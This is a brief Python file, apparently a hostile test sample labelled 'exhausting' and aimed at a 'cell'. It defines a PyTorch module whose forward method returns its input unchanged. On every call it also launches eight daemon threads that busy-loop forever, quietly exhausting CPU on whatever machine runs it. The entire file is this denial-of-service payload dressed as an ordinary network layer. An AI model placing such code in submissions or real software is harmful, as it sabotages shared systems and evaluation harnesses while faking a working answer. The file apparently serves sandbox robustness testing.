"""Answer, and leave threads behind that loop.

kind: exhausting
attacks: cell
"""

import threading

import torch
from torch import nn


def loop():
    while True:
        pass


class Cell(nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(size, size))

    def forward(self, x):
        for _ in range(8):
            threading.Thread(target=loop, daemon=True).start()
        return x
